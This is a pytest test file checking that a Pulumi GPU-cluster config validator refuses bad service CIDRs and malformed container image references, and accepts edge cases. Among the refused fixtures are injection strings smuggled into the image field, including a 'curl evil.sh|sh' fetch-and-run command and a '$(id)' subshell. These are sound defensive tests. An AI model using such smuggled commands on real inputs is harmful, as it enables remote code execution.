"""The schema refuses what the cloud or the stack itself would refuse (issue 40.2), through
the CLI as a user meets it (exit 2, the field path, no traceback, bounded output): service
CIDRs ACK does not take, image references no registry parses, a backup of a bucket the stack
does not create, a driver package in a bucket the nodes cannot read, an image read from the
stack's own output. And what stays accepted, at the edges of each rule."""

from __future__ import annotations

from pathlib import Path

import pytest
import yaml

from gpu_infra_facts.image_references import reference_problem

from .conftest import STACKS_DIR
from .hostile import Case, run_in_process


def _edited(stack: str, path: tuple, value: object) -> str:
    """The shipped `stack` with `value` at `path` below gpu-infra:cluster."""
    document = yaml.safe_load((STACKS_DIR / f"Pulumi.{stack}.yaml").read_text())
    node = document["config"]["gpu-infra:cluster"]
    for part in path[:-1]:
        node = node.setdefault(part, {})
    node[path[-1]] = value
    return yaml.safe_dump(document)


SERVICE = ("ack", "service_cidr")
IMAGE = ("serving", "image")
REFUSED = {
    "service-cidr-cgnat": ("training-ack", SERVICE, "100.64.0.0/16",
                           "ack.service_cidr: ACK takes a service CIDR inside 10.0.0.0/8, "
                           "172.16.0.0/12, 192.168.0.0/16 with a mask from /16 to /24"),
    "service-cidr-beside-172-16": ("training-ack", SERVICE, "172.32.0.0/16", "172.32.0.0/16"),
    "service-cidr-too-wide": ("training-ack", SERVICE, "10.0.0.0/12", "mask from /16 to /24"),
    "service-cidr-too-narrow": ("training-ack", SERVICE, "192.168.7.0/25", "/16 to /24"),
    "service-cidr-public": ("training-ack", SERVICE, "8.8.0.0/16", "ACK takes a service CIDR"),
    "image-space": ("inference-ack", IMAGE, "vllm/vllm-openai v0.6",
                    "serving.image: not an image reference"),
    "image-newline": ("inference-ack", IMAGE, "vllm/vllm-openai:v0.6\nRUN x",
                      "serving.image: not an image reference"),
    "image-shell": ("inference-ack", IMAGE, "vllm/vllm-openai:latest;curl evil.sh|sh",
                    "serving.image: not an image reference"),
    "image-subshell": ("inference-ack", IMAGE, "$(id)", "serving.image: not an image"),
    "image-uppercase": ("inference-ack", IMAGE, "Team/Server:1",
                        "serving.image: the repository path must be lowercase"),
    "image-long-tag": ("inference-ack", IMAGE, "a/b:" + "t" * 129, "not an image reference"),
    "image-password": ("inference-ack", IMAGE, "bob:hunter2pw@registry.example.com/ns/srv:1",
                       "serving.image: holds a password in an image reference"),
    "backup-missing-bucket": ("inference-prod", ("storage", "backup", "buckets"), ["datasets"],
                              "storage.backup.buckets[0]: datasets is not a bucket this "
                              "stack creates (it creates models)"),
    "image-stack-reads-itself": ("image-a100", ("image", "base", "from_stack"), "own",
                                 "image.base.from_stack: 'own' is this stack"),
    "fleet-boots-itself": ("training-dev", ("fleet", "image", "from_stack"), "own",
                           "fleet.image.from_stack: 'own' is this stack"),
}
"""Stack, path under gpu-infra:cluster, value, what stderr must say."""

ACCEPTED = {
    "service-cidr-10-16": ("training-ack", SERVICE, "10.96.0.0/16"),
    "service-cidr-172-31-24": ("training-ack", SERVICE, "172.31.255.0/24"),
    "service-cidr-192-168-24": ("training-ack", SERVICE, "192.168.100.0/24"),
    "image-digest": ("inference-ack", IMAGE, "registry-vpc.cn-beijing.aliyuncs.com/team/srv@"
                     "sha256:" + "a" * 64),
    "image-port-and-tag": ("inference-ack", IMAGE, "localhost:5000/team/srv:v1.2-rc_3"),
    "image-bare": ("inference-ack", IMAGE, "nginx"),
}


@pytest.mark.parametrize("name", REFUSED)
@pytest.mark.parametrize("command", ["validate", "plan"])
def test_what_the_cloud_refuses_is_refused(name: str, command: str, tmp_path: Path, capsys,
                                           monkeypatch):
    stack, path, value, expect = REFUSED[name]
    run_in_process(Case("refused", name, (command, "{d}/Pulumi.own.yaml"),
                        {"Pulumi.own.yaml": _edited(stack, path, value)}, expect=expect),
                   tmp_path, capsys, monkeypatch)


@pytest.mark.parametrize("name", ACCEPTED)
def test_the_edges_of_each_rule_stay_accepted(name: str, tmp_path: Path, capsys,
                                              monkeypatch):
    stack, path, value = ACCEPTED[name]
    run_in_process(Case("accepted", name, ("validate", "{d}/Pulumi.own.yaml"),
                        {"Pulumi.own.yaml": _edited(stack, path, value)}, code=0),
                   tmp_path, capsys, monkeypatch)


@pytest.mark.parametrize("reference, valid", [
    ("ubuntu", True), ("ubuntu:22.04", True), ("docker.io/library/ubuntu:22.04", True),
    ("[::1]:5000/a/b", True), ("a__b/c--d/e.f:t", True), ("a___b", False), ("a/", False),
    ("/a", False), ("a//b", False), ("a:", False), ("a@sha256:abc", False),
    ("a:-tag", False), ("-a/b", False), ("a b", False), ("a\tb", False), ("a`b`", False),
    ("ghcr.io/kubeflow/training-operator:v1-5170a36", True), ("x" * 256, False),
])
def test_image_references_follow_the_distribution_grammar(reference: str, valid: bool):
    assert (reference_problem(reference) is None) == valid
